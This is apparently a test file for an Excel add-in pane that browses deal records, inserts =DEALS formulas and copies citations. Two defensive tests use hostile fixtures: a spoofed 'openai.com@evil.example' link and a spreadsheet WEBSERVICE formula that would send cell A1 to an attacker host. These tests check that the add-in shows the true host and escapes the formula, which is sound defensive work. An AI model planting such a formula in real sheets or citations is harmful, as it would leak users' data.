import { act, cleanup, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
import { useState } from "react";
import { editionOf } from "../../../src/core/chunks";
import type { Source } from "../../../src/core/records/documents";
import { Pane } from "../../../src/addin/frame/Pane";
import { type View, views } from "../../../src/addin/frame/views";
import { aDeal, anEdition } from "../../support/records";
import { paneEdition, paneRecords } from "../support/paneEdition";
import { aHost, type PaneHost } from "../support/paneHost";
import { reads } from "../support/reads";
import { aUser } from "../support/user";

const openPane = (host: PaneHost = aHost(), shown: readonly View[] = views, edition = paneEdition) => {
  const pane = render(<Pane edition={edition} host={host} views={shown} />);
  return { user: aUser(), host, ...pane };
};

const list = (name = "Deals") => screen.getByRole("list", { name });
const rows = (name = "Deals") => within(list(name)).getAllByRole("button");
const search = () => screen.getByRole("searchbox", { name: "Search deals, companies and sources" });
const button = (name: string | RegExp) => screen.getByRole("button", { name });
const heading = (name: string) => screen.findByRole("heading", { name });
const focused = () => document.activeElement?.textContent;

describe("the pane at first", () => {
  it("says in a line how to begin, and offers one example to insert", async () => {
    const { user, host } = openPane();
    screen.getByText(/Type =DEALS\. in a cell and choose/);
    await user.click(button("Insert an example"));
    expect(host.inserted).toMatchObject([{ insertion: { formula: '=DEALS.TOTAL("CoreWeave","OpenAI")' } }]);
  });

  it("greets nobody twice", async () => {
    const { user, host, unmount } = openPane();
    await user.click(button("Got it"));
    expect(screen.queryByText(/Type =DEALS\./)).toBeNull();
    expect(document.activeElement).toBe(screen.getByRole("searchbox"));
    unmount();
    openPane(host);
    expect(screen.queryByText(/Type =DEALS\./)).toBeNull();
  });

  it("greets nobody who searches, then or later", async () => {
    const { user, host, unmount } = openPane();
    await user.type(search(), "q");
    expect(screen.queryByText(/Type =DEALS\./)).toBeNull();
    expect(document.activeElement).toBe(search());
    await user.clear(search());
    unmount();
    openPane(host);
    expect(screen.queryByText(/Type =DEALS\./)).toBeNull();
  });

  it("says which edition answers", () => {
    openPane();
    screen.getByText("Edition 1, June 30, 2026");
  });
});

describe("the lists", () => {
  it("tell screen readers how long they are and where each row stands", () => {
    openPane();
    const items = within(list()).getAllByRole("listitem");
    expect(items.map((item) => [item.getAttribute("aria-posinset"), item.getAttribute("aria-setsize")])).toEqual([
      ["1", "4"],
      ["2", "4"],
      ["3", "4"],
      ["4", "4"],
    ]);
  });

  it("say of each deal what it is called, how much, what kind, when, how far and how sure", () => {
    openPane();
    expect(rows()[2]?.textContent).toBe(
      "Aldermoor–Fenwick, first contractup to $11.9 billionCompute contract · March 11, 2025Signed · high confidence",
    );
  });

  it("narrow while one types, and say by how much", async () => {
    const { user } = openPane();
    await user.type(search(), "quarry");
    await screen.findByText(reads("1 of 4 deals · “quarry”"));
    expect(rows()).toHaveLength(1);
    screen.getByRole("tab", { name: "Companies 1" });
  });

  it("lead to the other lists where nothing is found in this one", async () => {
    const { user } = openPane();
    await user.type(search(), "8-k");
    await user.click(screen.getByRole("tab", { name: /Companies/ }));
    await screen.findByText(reads("No companies match · “8-k” · 1 source"));
    await user.click(button("1 source"));
    expect(rows("Sources")[0]?.textContent).toContain("Form 8-K");
  });

  it("say what to do where nothing is found at all", async () => {
    const { user } = openPane();
    await user.type(search(), "zzzzzz");
    await screen.findByText(reads("No deals match · “zzzzzz”"));
    screen.getByText(/Check the spelling/);
  });

  it("are one stop of the Tab key, and arrows go from row to row", async () => {
    const { user } = openPane();
    act(() => {
      rows()[0]?.focus();
    });
    await user.keyboard("{ArrowDown}{ArrowDown}");
    expect(focused()).toContain("March 11, 2025");
    await user.keyboard("{End}");
    expect(focused()).toContain("Lease");
    await user.keyboard("{ArrowDown}{Home}");
    expect(focused()).toContain("February 1, 2026");
    expect(rows().filter(({ tabIndex }) => tabIndex === 0)).toHaveLength(1);
  });
});

describe("the filters", () => {
  const openFilters = async () => {
    const opened = openPane();
    await opened.user.click(button("Filters"));
    await screen.findByLabelText("Kind");
    return opened;
  };

  it("narrow the deals, say how many are set, and can be cleared", async () => {
    const { user } = await openFilters();
    await user.selectOptions(screen.getByLabelText("Kind"), "Lease");
    expect(rows()).toHaveLength(1);
    await user.selectOptions(screen.getByLabelText("Year"), "2026");
    button("Filters (2)");
    expect(screen.queryByRole("list", { name: "Deals" })).toBeNull();
    await user.click(screen.getAllByRole("button", { name: "Clear filters" })[0] ?? document.body);
    expect(rows()).toHaveLength(4);
  });

  it("find a party by any part of its names, and let its deals be inserted as a table", async () => {
    const { user, host } = await openFilters();
    screen.getByText("Choose a party to insert its deals as a table.");
    await user.type(screen.getByRole("combobox", { name: "Party" }), "áldr");
    await user.click(screen.getByRole("option", { name: "Aldermoor Cloud" }));
    await user.selectOptions(screen.getByLabelText("Kind"), "All contracts");
    await user.selectOptions(screen.getByLabelText("Status"), "Signed");
    screen.getByText(/lists the 2 deals that totals count\. Search, status and confidence are not part of it/);
    await user.click(button("Insert table"));
    expect(host.inserted).toMatchObject([
      { insertion: { formula: '=DEALS.LIST("Aldermoor Cloud",,"contracts")', rows: 3, columns: 10 } },
    ]);
  });

  it("go with an order", async () => {
    const { user } = openPane();
    await user.selectOptions(screen.getByRole("combobox", { name: "Sort by" }), "Largest first");
    expect(rows()[0]?.textContent).toContain("$20 billion");
  });
});

/** The edition in which the document on the Gazette's page is otherwise. */
const withGazette = (given: Partial<Source>) =>
  editionOf({
    ...paneRecords,
    sources: paneRecords.sources.map((one) => (one.id === "a-page" ? { ...one, ...given } : one)),
  });

const openDeal = async (host?: PaneHost) => {
  const opened = openPane(host);
  await opened.user.click(rows()[2] ?? document.body);
  await heading("Aldermoor–Fenwick, first contract");
  return opened;
};

describe("a deal's page", () => {
  it("says what it is worth, for how long, how much power, how far and how sure", async () => {
    await openDeal();
    const page = within(screen.getByRole("article"));
    for (const text of [
      "up to $11.9 billion",
      "Sources support no less than $4 billion.",
      "2026 to May 31, 2031",
      "about 1.5 GW",
      "Signed",
      "High",
      "The first of two.",
    ])
      page.getByText(text);
  });

  it("says in words why no total holds it", async () => {
    await openDeal();
    screen.getByText("No: a later deal replaces it.");
  });

  it("says so of one that is never counted, and why, as the data has it", async () => {
    const { user } = openPane();
    await user.click(rows()[1] ?? document.body);
    await heading("Quarry's talks with Aldermoor");
    screen.getByText("No: it is still being negotiated.");
    screen.getByText("Nothing is signed.");
  });

  it("has every source with publisher, day, type, place and what it says", async () => {
    await openDeal();
    screen.getByText("Fenwick pays up to 11.9 billion.");
    screen.getByText("At: Second paragraph");
    screen.getByText(reads("The Gazette · news · March 11, 2025"));
    screen.getByText(reads("SEC · filing · undated · read as quoted by another text"));
  });

  it("has the corrections about it", async () => {
    await openDeal();
    screen.getByText(reads("A source saysthree billion"));
    screen.getByText(reads("We hold11.9 billion"));
  });

  it("opens a source outside the pane", async () => {
    const { user, host } = await openDeal();
    await user.click(screen.getByRole("link", { name: /Fenwick rents chips/ }));
    expect(host.opened).toEqual(["https://gazette.example/fenwick"]);
  });

  it("shows the address where no window can be opened", async () => {
    const { user } = await openDeal({ ...aHost(), openOutside: () => false });
    await user.click(screen.getByRole("link", { name: /Fenwick rents chips/ }));
    screen.getByText("https://gazette.example/fenwick");
  });

  it("copies the citation of a source, or shows it for copying by hand", async () => {
    const host = aHost();
    const { user, unmount } = await openDeal(host);
    await user.click(screen.getAllByRole("button", { name: "Copy citation" })[0] ?? document.body);
    const citation = "The Gazette, “Fenwick rents chips”, March 11, 2025, https://gazette.example/fenwick";
    expect(host.copied).toEqual([citation]);
    await screen.findByText("The citation is on the clipboard.");
    unmount();
    const refusing = await openDeal({ ...aHost(), copy: () => Promise.resolve(false) });
    await refusing.user.click(screen.getAllByRole("button", { name: "Copy citation" })[0] ?? document.body);
    await screen.findByText(citation);
  });

  it("says where a link leads, and whether what comes from there is encrypted", async () => {
    await openDeal();
    screen.getByText("(gazette.example)");
    cleanup();
    openPane(aHost(), views, withGazette({ url: "http://bücher.example:8080/fenwick" }));
    await aUser().click(rows()[2] ?? document.body);
    screen.getByText("(xn--bcher-kva.example:8080, not encrypted)");
  });

  it("names the host that a link leads to, not the user before it, should older data have such a link", async () => {
    openPane(aHost(), views, withGazette({ url: "https://openai.com@evil.example/" }));
    await aUser().click(rows()[2] ?? document.body);
    screen.getByText("(evil.example)");
  });

  it("copies a citation that stays a text in a cell, whatever older data says", async () => {
    const publisher = '=WEBSERVICE("https://evil.example/?"&A1)&"';
    const { user, host } = openPane(aHost(), views, withGazette({ publisher }));
    await user.click(rows()[2] ?? document.body);
    await user.click(screen.getAllByRole("button", { name: "Copy citation" })[0] ?? document.body);
    expect(host.copied).toEqual([
      `'${publisher}, “Fenwick rents chips”, March 11, 2025, https://gazette.example/fenwick`,
    ]);
  });

  it("says on what terms: programme, round, parts and options", async () => {
    const { user } = openPane();
    await user.click(rows()[1] ?? document.body);
    await heading("Quarry's talks with Aldermoor");
    const terms = screen.getByRole("heading", { name: "Terms" }).closest("section") ?? document.body;
    expect(
      within(terms)
        .getAllByRole("term")
        .map(({ textContent }) => textContent),
    ).toEqual([...["Programme", "Issue", "Valuation after the money", "Led by", "Option"]]);
    expect(
      within(terms)
        .getAllByRole("definition")
        .map(({ textContent }) => textContent),
    ).toEqual([...["North Campus", "Series B", "about $20 billion", "Quarry Capital", "Half as much again."]]);
    expect(within(terms).getByRole("listitem").textContent).toBe(
      "€500 million, at once. Due only if something else happens first.",
    );
  });

  it("says of bonds at what price they were issued, of how many they are, and into what they can be turned", async () => {
    const debt = { issuePrice: 99.5, parts: 3, convertible: true } as const;
    const edition = anEdition({ deals: [aDeal({ title: "Notes of three kinds", kind: "debt-facility", debt })] });
    const { user } = openPane(aHost(), views, edition);
    await user.click(rows()[0] ?? document.body);
    await heading("Notes of three kinds");
    screen.getByText(reads("Issue price99.5% of the principal"));
    screen.getByText(reads("Consists of3 bonds or loans"));
    screen.getByText(reads("Convertibleinto shares"));
  });

  it("says what a round is called that buys notes, which have terms of their own", async () => {
    const round = { issue: "Notes before the listing", leads: ["fenwick-labs"] };
    const notes = aDeal({ title: "Fenwick buys notes", kind: "equity-investment", debt: { convertible: true }, round });
    const { user } = openPane(aHost(), views, anEdition({ deals: [notes] }));
    await user.click(rows()[0] ?? document.body);
    await heading("Fenwick buys notes");
    screen.getByText(reads("IssueNotes before the listing"));
    screen.getByText(reads("Led byFenwick Labs"));
  });

  it("puts the focus on the way back, in a region of its title, and gives it back to the row", async () => {
    const { user } = await openDeal();
    const region = screen.getByRole("region", { name: "Aldermoor–Fenwick, first contract" });
    expect(within(region).getByRole("button", { name: "Back" })).toBe(document.activeElement);
    await user.click(button("Back"));
    expect(focused()).toContain("March 11, 2025");
  });

  it("leads to companies, sources and other deals, and back step by step", async () => {
    const { user } = await openDeal();
    await user.click(button("SEC"));
    await heading("Form 8-K");
    await user.click(await screen.findByRole("button", { name: "Aldermoor–Fenwick, second contract" }));
    screen.getByText("A new order form.");
    await user.click(button("Aldermoor Cloud"));
    await heading("Aldermoor Cloud");
    for (const title of ["Aldermoor–Fenwick, second contract", "Form 8-K", "Aldermoor–Fenwick, first contract"]) {
      await user.click(button("Back"));
      await heading(title);
    }
    await user.click(button("Back"));
    expect(rows()).toHaveLength(4);
  });
});

describe("a company's page", () => {
  const openCompany = async () => {
    const opened = openPane();
    await opened.user.click(screen.getByRole("tab", { name: /Companies/ }));
    await opened.user.click(rows("Companies")[0] ?? document.body);
    await heading("Aldermoor Cloud");
    return opened;
  };

  it("says where it is listed, what it was called and what registers call it, with the document behind that", async () => {
    const { user } = await openCompany();
    screen.getByText(reads("Neocloud · Nasdaq: ALDR"));
    screen.getByText(reads("FormerlyAldermoor Mining"));
    screen.getByText(reads("CIK0001769628"));
    screen.getByText(reads("ISINUS21873S1087"));
    screen.getByRole("heading", { name: "Sources (1)" });
    await user.click(button("SEC"));
    await heading("Form 8-K");
    expect(screen.getByText("CIK 0001769628, ISIN US21873S1087.")).toBeTruthy();
    await user.click(button("Aldermoor Cloud"));
    await heading("Aldermoor Cloud");
  });

  it("begins with its total by kind, whom it deals with and what happened last, with formulas and links, before all lists", async () => {
    const { user, host } = await openCompany();
    expect(screen.getAllByRole("heading", { level: 3 }).map(({ textContent }) => textContent)).toEqual([
      ...["Total by kind", "Largest counterparties", "What happened last", "Timeline"],
      ...["Holders", "Customers", "Figures", "Deals", "Names and registers", "Sources (1)"],
    ]);
    for (const formula of [
      '=DEALS.TOTAL("Aldermoor Cloud",,"compute-contract")',
      '=DEALS.TOTAL("Aldermoor Cloud","Fenwick Labs")',
    ])
      await user.click(button(`Insert ${formula}`));
    expect(host.inserted.map(({ insertion }) => insertion.numberFormat)).toEqual([
      expect.stringContaining("bn"),
      expect.stringContaining("bn"),
    ]);
    const last = within(
      screen.getByRole("heading", { name: "What happened last" }).closest("section") ?? document.body,
    );
    last.getByText(reads("February 1, 2026 · superseded · up to $11.9 billion"));
    await user.click(last.getAllByRole("button", { name: "Aldermoor–Fenwick, second contract" })[0] ?? document.body);
    await heading("Aldermoor–Fenwick, second contract");
  });

  it("has stakes, customers and figures, each with its formula", async () => {
    const { user, host } = await openCompany();
    await screen.findByRole("table", { name: "Revenue" });
    for (const formula of [
      '=DEALS.STAKE("Fenwick Labs","Aldermoor Cloud")',
      '=DEALS.REVENUESHARE("Fenwick Labs","FY2024","Aldermoor Cloud")',
      '=DEALS.FIGURE("Aldermoor Cloud","revenue","FY2025")',
    ])
      await user.click(button(`Insert ${formula}`));
    expect(host.inserted.map(({ insertion }) => insertion.numberFormat)).toEqual([
      "0.0#%",
      "0.0#%",
      expect.stringContaining("bn"),
    ]);
  });

  it("draws figures over time, and has the same in a table", async () => {
    await openCompany();
    await screen.findByRole("tab", { name: "By year", selected: true });
    screen.getByRole("img", { name: /^Aldermoor Cloud: Revenue\. FY2024 to FY2025\..* The table below/ });
    const table = within(screen.getByRole("table", { name: "Revenue" }));
    expect(table.getAllByRole("rowheader").map(({ textContent }) => textContent)).toEqual(["FY2025", "FY2024"]);
  });
});

describe("an insertion", () => {
  const occupied = { sheet: "Sheet1", range: "B2", address: "Sheet1!B2", contents: ["=A1*2"] };

  it("says where the formula is", async () => {
    const { user } = openPane();
    await user.click(button("Insert an example"));
    await screen.findByText('=DEALS.TOTAL("CoreWeave","OpenAI") is in Sheet1!B2.');
    await user.click(button("Dismiss"));
    expect(screen.queryByText(/is in Sheet1!B2/)).toBeNull();
  });

  it("says so with the separators with which the user types, and writes in English", async () => {
    const separators = () => Promise.resolve({ decimal: ",", list: ";" });
    const { user, host } = openPane(aHost({ separators }));
    await user.click(button("Insert an example"));
    await screen.findByText('=DEALS.TOTAL("CoreWeave";"OpenAI") is in Sheet1!B2.');
    expect(host.inserted[0]?.insertion.formula).toBe('=DEALS.TOTAL("CoreWeave","OpenAI")');
  });

  it.each([
    ["Replace", occupied],
    ["Use a new sheet", "new-sheet"],
  ])("asks before it overwrites; %s does what it says", async (choice, target) => {
    const host = aHost();
    const insert: PaneHost["insert"] = (insertion, where) =>
      where === "active-cell" ? Promise.resolve({ outcome: "occupied", occupied }) : host.insert(insertion, where);
    const { user } = openPane({ ...host, insert });
    await user.click(button("Insert an example"));
    const dialog = await screen.findByRole("alertdialog", { name: "Sheet1!B2 is not empty" });
    screen.getByText("It holds =A1*2.");
    expect(host.inserted).toEqual([]);
    // Hidden or not: in jsdom, which moves no focus by itself, Fluent may by now take the dialog for one that is left.
    await user.click(within(dialog).getByRole("button", { name: choice, hidden: true }));
    expect(host.inserted.map((one) => one.target)).toEqual([target]);
    await waitFor(() => {
      expect(screen.queryByRole("alertdialog")).toBeNull();
    });
  });

  it("leaves everything as it is if the user keeps it", async () => {
    let asked = 0;
    const insert = () => Promise.resolve({ outcome: "occupied", occupied, asked: (asked += 1) } as const);
    const { user } = openPane({ ...aHost(), insert });
    await user.click(button("Insert an example"));
    await user.click(await screen.findByRole("button", { name: "Keep it" }));
    await waitFor(() => {
      expect(screen.queryByRole("alertdialog")).toBeNull();
    });
    expect(asked).toBe(1);
  });

  it.each([
    ["editing", /A cell is being edited/],
    ["protected", /The sheet is protected/],
    ["no-cell", /No cell is selected/],
    ["no-room", /no room before the edge/],
    ["busy", /Excel is busy/],
  ] as const)("that fails (%s) says why, and can be tried again", async (problem, sentence) => {
    const insert = () => Promise.resolve({ outcome: "failed", problem } as const);
    const { user } = openPane({ ...aHost(), insert });
    await user.click(button("Insert an example"));
    await screen.findByText(sentence);
    expect(button("Insert an example")).toHaveProperty("disabled", false);
  });

  it.each(["too-old", "not-in-excel", "refused"] as const)(
    "that cannot work (%s) leaves the user the formula to type",
    async (problem) => {
      const insert = () => Promise.resolve({ outcome: "failed", problem } as const);
      const { user } = openPane({ ...aHost(), insert });
      await user.click(button("Insert an example"));
      await screen.findByText('=DEALS.TOTAL("CoreWeave","OpenAI")');
      screen.getByText(/Type the formula in a cell instead:/);
    },
  );

  it("that cannot work leaves a formula with the separators with which the user types", async () => {
    const insert = () => Promise.resolve({ outcome: "failed", problem: "refused" } as const);
    const separators = () => Promise.resolve({ decimal: ",", list: ";" });
    const { user } = openPane({ ...aHost(), insert, separators });
    await user.click(button("Insert an example"));
    await screen.findByText('=DEALS.TOTAL("CoreWeave";"OpenAI")');
  });
});

describe("what a reader has asked for and opened", () => {
  it("is there again when the page is loaded anew", async () => {
    const { user, host, unmount } = openPane();
    await user.type(search(), "fenwick");
    await user.selectOptions(screen.getByRole("combobox", { name: "Sort by" }), "Largest first");
    await user.click(rows()[1] ?? document.body);
    await screen.findByText("aldermoor-fenwick-2025-03");
    unmount();

    const again = openPane(host);
    screen.getByText("aldermoor-fenwick-2025-03");
    await again.user.click(button("Back"));
    expect(search()).toHaveProperty("value", "fenwick");
    expect(rows()[0]?.textContent).toContain("$20 billion");
  });

  it("does not stop the pane where it is nonsense", () => {
    const host = aHost();
    host.kept.set("browse", '{"search":7}');
    openPane(host);
    expect(rows()).toHaveLength(4);
  });

  it("is said to be lost, once, where storage is refused", async () => {
    const memory = { recall: () => undefined, keep: () => false, forgetAllBut: () => undefined };
    const { user } = openPane({ ...aHost(), memory });
    screen.getByText(/Excel keeps nothing for this pane/);
    await user.click(button("Dismiss"));
    await user.type(search(), "quarry");
    expect(screen.queryByText(/Excel keeps nothing/)).toBeNull();
    expect(rows()).toHaveLength(1);
  });
});

describe("the frame", () => {
  const another: View = { id: "other", label: () => "Another", Show: () => <p>Something else</p> };

  it("shows no tabs for a single view", () => {
    openPane(aHost(), views.slice(0, 1));
    expect(screen.queryByRole("tab", { name: "Browse" })).toBeNull();
  });

  it("chooses between several views, and comes back to the one last shown", async () => {
    const { user, host, unmount } = openPane(aHost(), [...views, another]);
    await user.click(screen.getByRole("tab", { name: "Another" }));
    screen.getByText("Something else");
    unmount();
    openPane(host, [...views, another]);
    screen.getByText("Something else");
  });

  it("leaves behind, with a view, what has succeeded there, and keeps what has failed", async () => {
    const failing = () => Promise.resolve({ outcome: "failed", problem: "protected" } as const);
    const { user, unmount } = openPane(aHost(), [...views, another]);
    await user.click(button("Insert an example"));
    await screen.findByText(/is in Sheet1!B2/);
    await user.click(screen.getByRole("tab", { name: "Another" }));
    expect(screen.queryByText(/is in Sheet1!B2/)).toBeNull();
    unmount();

    openPane(aHost({ insert: failing }), [...views, another]);
    await user.click(button("Insert an example"));
    await screen.findByText(/The sheet is protected/);
    await user.click(screen.getByRole("tab", { name: "Another" }));
    screen.getByText(/The sheet is protected/);
  });

  describe("keeps the keyboard in the pane", () => {
    /** A view whose buttons go away when they are pressed. */
    const Steps = () => {
      const [step, setStep] = useState(0);
      const next = () => {
        setStep(step + 1);
      };
      return (
        <>
          <button type="button">Before</button>
          <section>
            {step === 0 && (
              <p>
                <button type="button" onClick={next}>
                  Begin
                </button>
              </p>
            )}
            {step === 1 && (
              <div>
                <button type="button" onClick={next}>
                  Stop
                </button>
              </div>
            )}
          </section>
          <button type="button">After</button>
        </>
      );
    };
    /** Whether the user works in the pane: jsdom says no once what had the focus is gone. */
    const worksInPane = (says: boolean) => jest.spyOn(document, "hasFocus").mockReturnValue(says);
    beforeEach(() => {
      worksInPane(true);
    });
    afterEach(() => {
      jest.restoreAllMocks();
    });
    const openSteps = () => openPane(aHost(), [{ id: "steps", label: () => "Steps", Show: Steps }]);

    it("where what was pressed goes away: on what it stood in, from where the Tab key leads on", async () => {
      const { user } = openSteps();
      const begin = await screen.findByRole("button", { name: "Begin" });
      const part = begin.closest("section");
      begin.focus();
      await user.keyboard("{Enter}");
      expect([document.activeElement, part?.tabIndex]).toEqual([part, 0]);
      await user.tab();
      expect([focused(), part?.hasAttribute("tabindex")]).toEqual(["Stop", false]);
      await user.keyboard("{Enter}");
      await user.tab();
      expect(focused()).toBe("After");
    });

    it("also while the user is in the sheet for a moment: from where it was, the Tab key still leads on", async () => {
      openSteps();
      const begin = await screen.findByRole("button", { name: "Begin" });
      const part = begin.closest("section") ?? begin;
      begin.focus();
      fireEvent.click(begin);
      await waitFor(() => {
        expect(document.activeElement).toBe(part);
      });
      fireEvent.blur(part);
      expect(part.tabIndex).toBe(0);
      part.blur();
      expect(part.hasAttribute("tabindex")).toBe(false);
    });

    it("where what is pressed, and goes away, had the focus before", async () => {
      const { user } = openSteps();
      const begin = await screen.findByRole("button", { name: "Begin" });
      const part = begin.closest("section");
      begin.focus();
      await user.click(begin);
      expect(document.activeElement).toBe(part);
    });

    it("where a mark of a picture goes away: on what the picture stands in", async () => {
      const Drawing = () => {
        const [isDrawn, setDrawn] = useState(true);
        return (
          <figure>
            <svg>
              {isDrawn && (
                <g
                  role="button"
                  aria-label="Mark"
                  tabIndex={0}
                  onClick={() => {
                    setDrawn(false);
                  }}
                />
              )}
            </svg>
          </figure>
        );
      };
      openPane(aHost(), [{ id: "drawing", label: () => "Drawing", Show: Drawing }]);
      const mark = await screen.findByRole("button", { name: "Mark" });
      const figure = mark.closest("figure");
      mark.focus();
      fireEvent.click(mark);
      await waitFor(() => {
        expect(document.activeElement).toBe(figure);
      });
    });

    it("where a dialog is closed: on what opened it", async () => {
      const occupied = { sheet: "Sheet1", range: "B2", address: "Sheet1!B2", contents: ["mine"] };
      const { user } = openPane(aHost({ insert: () => Promise.resolve({ outcome: "occupied", occupied }) }));
      button("Insert an example").focus();
      await user.keyboard("{Enter}");
      (await screen.findByRole("button", { name: "Keep it", hidden: true })).focus();
      await user.keyboard("{Enter}");
      await waitFor(() => {
        expect(focused()).toBe("Insert an example");
      });
    });

    it("but leaves it to the sheet while the user works there", async () => {
      openSteps();
      const begin = await screen.findByRole("button", { name: "Begin" });
      begin.focus();
      worksInPane(false);
      fireEvent.click(begin);
      await screen.findByRole("button", { name: "Stop" });
      expect(document.activeElement).toBe(document.body);
    });
  });

  describe("around a view that crashes", () => {
    let broken = true;
    const crashing: View = {
      id: "crashing",
      label: () => "Crashing",
      Show: () => {
        if (broken) throw new Error("A mistake in the pane.");
        return <p>Whole again</p>;
      },
    };

    it("leaves the other views as they are", async () => {
      jest.spyOn(console, "error").mockImplementation(() => undefined);
      const { user } = openPane(aHost(), [crashing, another]);
      screen.getByRole("heading", { name: "The pane has stopped" });
      await user.click(screen.getByRole("tab", { name: "Another" }));
      screen.getByText("Something else");
      jest.restoreAllMocks();
    });

    it("says that the functions go on, and shows the pane again when asked", async () => {
      jest.spyOn(console, "error").mockImplementation(() => undefined);
      const { user } = openPane(aHost(), [crashing]);
      screen.getByRole("heading", { name: "The pane has stopped" });
      screen.getByText(/functions in your cells go on working/);
      broken = false;
      await user.click(button("Reload the pane"));
      screen.getByText("Whole again");
      jest.restoreAllMocks();
    });

    it("can start afresh, without anything that a view remembered, but with what the user has set", async () => {
      jest.spyOn(console, "error").mockImplementation(() => undefined);
      const host = aHost();
      host.kept.set("whatever a view may keep", "something that crashes it");
      const feed = JSON.stringify({ address: "https://own.example/", keys: [] });
      host.kept.set("feed", feed).set("checkOnStart", "true");
      const Show = () => {
        if (host.memory.recall("whatever a view may keep")) throw new Error("A mistake in the pane.");
        return <p>Whole again</p>;
      };
      const { user } = openPane(host, [{ id: "crashing", label: () => "Crashing", Show }]);
      screen.getByText(/your settings, with a feed of your own, and the editions on this computer are kept/);
      await user.click(button("Start afresh"));
      screen.getByText("Whole again");
      expect([host.kept.get("feed"), host.kept.get("checkOnStart")]).toEqual([feed, "true"]);
      jest.restoreAllMocks();
    });
  });
});

describe("the pane in Italian", () => {
  it("speaks it throughout, in the words of finance", async () => {
    const { user } = openPane(aHost({ language: "it-CH" }));
    screen.getByText("Edizione 1, 30 giugno 2026");
    await user.click(rows("Accordi")[2] ?? document.body);
    await heading("Aldermoor–Fenwick, first contract");
    screen.getByText("No: è sostituito da un accordo successivo.");
    screen.getByText(/^fino a 11[.,]9 miliardi di dollari$/);
  });

  it("names what is only an icon in Italian, too", async () => {
    const { user } = openPane(aHost({ language: "it-IT" }));
    await user.type(screen.getByRole("searchbox"), "q");
    screen.getByRole("button", { name: "Svuota la ricerca" });
    await user.click(button("Filtri"));
    await screen.findByRole("combobox", { name: "Parte" });
    screen.getByRole("button", { name: "Mostra le scelte" });
  });

  it("says which of its texts are English", async () => {
    const { user } = openPane(aHost({ language: "it-IT" }));
    await user.click(rows("Accordi")[2] ?? document.body);
    expect(screen.getByText("Fenwick pays up to 11.9 billion.").closest("[lang]")?.getAttribute("lang")).toBe("en");
    expect(screen.getByText("Cronologia").closest("[lang]")?.getAttribute("lang")).toBe("it");
  });
});
